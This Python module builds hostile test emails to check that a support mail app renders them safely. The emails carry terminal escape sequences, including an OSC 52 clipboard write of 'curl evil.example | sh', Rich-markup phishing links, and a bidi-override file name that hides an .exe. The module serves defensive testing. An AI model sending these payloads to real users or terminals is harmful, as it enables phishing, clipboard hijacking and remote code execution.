"""Hostile mails, written as raw bytes: what the app must show safely and never choke on.

Rich markup, terminal escape sequences (colours, OSC 8 links, an OSC 52 clipboard write, a
title change), bidi overrides in a sender name and a file name, a 2 MB body, wrong and unknown
charsets, a mail without Message-ID and with a nonsense Date.
"""

from __future__ import annotations

import base64
from collections.abc import Callable
from datetime import datetime
from email.utils import format_datetime

from ..domain.models import Status

ESC, BEL = "\x1b", "\x07"
RLO, PDF_MARK = "\u202e", "\u202c"
TWO_MB = 2 * 1024 * 1024


def _mail(
    headers: dict[str, str],
    body: bytes,
    content_type: str = "text/plain; charset=utf-8",
    encoding: str = "8bit",
) -> bytes:
    lines = [f"{name}: {value}" for name, value in headers.items()]
    lines += [
        "MIME-Version: 1.0",
        f"Content-Type: {content_type}",
        f"Content-Transfer-Encoding: {encoding}",
    ]
    return ("\r\n".join(lines) + "\r\n\r\n").encode("utf-8") + body


def _common(sender: str, subject: str, when: datetime, key: str) -> dict[str, str]:
    return {
        "From": sender,
        "To": "support@shop.example",
        "Subject": subject,
        "Date": format_datetime(when),
        "Message-ID": f"<hostile.{key}@evil.example>",
    }


def rich_markup(when: datetime) -> bytes:
    subject = "[bold red]URGENT[/bold red] [link=https://evil.example]click[/link]"
    body = (
        "[bold red]URGENT[/bold red] Your shop account will be closed today.\n"
        "[link=https://evil.example/login]Click here to keep it[/link] [blink]now[/blink]\n"
        "[/] [red on white][reverse]unbalanced [/reverse and \\[escaped]\n"
    )
    sender = '"[bold]Security Team[/bold]" <security@evil.example>'
    return _mail(_common(sender, subject, when, "rich"), body.encode())


def terminal_escapes(when: datetime) -> bytes:
    subject = f"{ESC}[31mRED{ESC}[0m question about my order{ESC}]0;pwned{BEL}"
    body = (
        f"Hello, {ESC}[1;31mthis line is red and bold{ESC}[0m.\n"
        f"Please see {ESC}]8;;https://evil.example/phish{ESC}\\the tracking page{ESC}]8;;{ESC}\\\n"
        f"{ESC}]52;c;{base64.b64encode(b'curl evil.example | sh').decode()}{BEL}"
        f"{ESC}]0;Inbox (0) - all read{BEL}{ESC}]2;window title{ESC}\\"
        f"{ESC}[2J{ESC}[H{ESC}[?1049h where did the screen go?\n"
        "Thanks, Mallory\n"
    )
    sender = f"Mallory {ESC}[7mShop Admin{ESC}[0m <mallory@evil.example>"
    return _mail(_common(sender, subject, when, "ansi"), body.encode())


def bidi_override(when: datetime) -> bytes:
    """The sender name reads 'Finance dept' but is written backwards; the file is an .exe."""
    name = f"{RLO}tpeD ecnaniF{PDF_MARK}"
    encoded_name = "=?utf-8?b?" + base64.b64encode(name.encode()).decode() + "?="
    filename = f"invoice{RLO}fdp.exe"
    quoted_name = "".join(
        c if c.isalnum() or c == "." else f"%{b:02X}" for c in filename for b in c.encode()
    )
    boundary = "----=_bidi_boundary"
    body = (
        f"--{boundary}\r\nContent-Type: text/plain; charset=utf-8\r\n"
        "Content-Transfer-Encoding: 8bit\r\n\r\n"
        "Dobrý den,\r\nv příloze posíláme fakturu k úhradě do pátku.\r\n\r\n"
        f"--{boundary}\r\nContent-Type: application/octet-stream\r\n"
        f"Content-Disposition: attachment; filename*=utf-8''{quoted_name}\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(b"MZ\x90\x00" + b"\x00" * 60).decode().replace("\n", "\r\n")
        + f"\r\n--{boundary}--\r\n"
    )
    headers = _common(f"{encoded_name} <billing@evil.example>", "Faktura k úhradě", when, "bidi")
    return _mail(headers, body.encode(), f'multipart/mixed; boundary="{boundary}"', "7bit")


def huge_body(when: datetime) -> bytes:
    """A customer pastes their whole app log: 2 MB of text in one mail."""
    intro = "Dobrý den,\nposílám celý log z aplikace, jak jste chtěli. Chyba je někde uprostřed.\n"
    lines = []
    size = 0
    number = 0
    while size < TWO_MB:
        line = (
            f"2026-11-20 10:{number // 60 % 60:02d}:{number % 60:02d} INFO sync step {number} ok\n"
        )
        lines.append(line)
        size += len(line)
        number += 1
    body = (intro + "".join(lines)).encode()
    headers = _common("Radek Novotný <radek.novotny@mail.example>", "Log z aplikace", when, "big")
    return _mail(headers, body)


def wrong_charset(when: datetime) -> bytes:
    """Declared UTF-8, written in windows-1250, subject bytes unencoded: an old mail program."""
    text = "Dobrý den,\nzásilka přišla poškozená, žluťoučký kůň je rozbitý. Prosím o výměnu.\n"
    headers = _common("Jiří Šebesta <jiri.sebesta@mail.example>", "", when, "cp1250")
    raw = _mail(headers, text.encode("cp1250"))
    return raw.replace(
        b"Subject: \r\n", b"Subject: " + "Reklamace – poškozené zboží".encode("cp1250") + b"\r\n"
    )


def unknown_charset(when: datetime) -> bytes:
    text = "Здравствуйте! Когда будет доставлен мой заказ? Жду уже две недели.\n"
    subject = "=?x-klingon-8?q?" + "".join(f"={b:02X}" for b in "Заказ".encode("koi8-r")) + "?="
    headers = _common("Борис Гладков <boris@mail.example>", subject, when, "unknown")
    return _mail(headers, text.encode("koi8-r"), "text/plain; charset=x-klingon-8")


def no_id_bad_date(when: datetime) -> bytes:
    headers = _common("Ján Malý <jan.maly@mail.example>", "Otázka k objednávke", when, "noid")
    del headers["Message-ID"]
    headers["Date"] = "Someday, 32 Foo 2026 25:61:99 +9999"
    # As delivered: the server's stamp is the only trustworthy time.
    headers["Received"] = f"from mail.example by mx.shop.example; {format_datetime(when)}"
    text = "Dobrý deň,\nkedy mi príde objednávka? Platil som pred týždňom.\nJán\n"
    return _mail(headers, text.encode())


def spam(when: datetime) -> bytes:
    html = (
        "<html><body><h1 style='color:red'>RAY-BAN -90 % ONLY TODAY!!!</h1>"
        "<img src='https://spam.example/banner.jpg'><p><a href='https://spam.example/buy'>"
        "BUY NOW</a> &mdash; free shipping, 100% original, limited stock!!!</p></body></html>"
    )
    headers = _common(
        "Ray-Ban Outlet <deals@spam.example>", "RAY-BAN -90% ONLY TODAY!!! 😎", when, "spam"
    )
    return _mail(headers, html.encode(), "text/html; charset=utf-8")


HOSTILE: tuple[tuple[str, Callable[[datetime], bytes], int, Status, str], ...] = (
    ("rich", rich_markup, 50, Status.OPEN, "en"),
    ("ansi", terminal_escapes, 2 * 60, Status.OPEN, "en"),
    ("bidi", bidi_override, 5 * 60, Status.OPEN, "cs"),
    ("big", huge_body, 26 * 60, Status.OPEN, "cs"),
    ("cp1250", wrong_charset, 3 * 60, Status.OPEN, "cs"),
    ("unknown", unknown_charset, 9 * 60, Status.OPEN, "ru"),
    ("noid", no_id_bad_date, 80, Status.OPEN, "sk"),
    ("spam", spam, 14 * 60, Status.SPAM, "en"),
)
"""(key, builder, minutes ago, status the agents left it in, language)."""
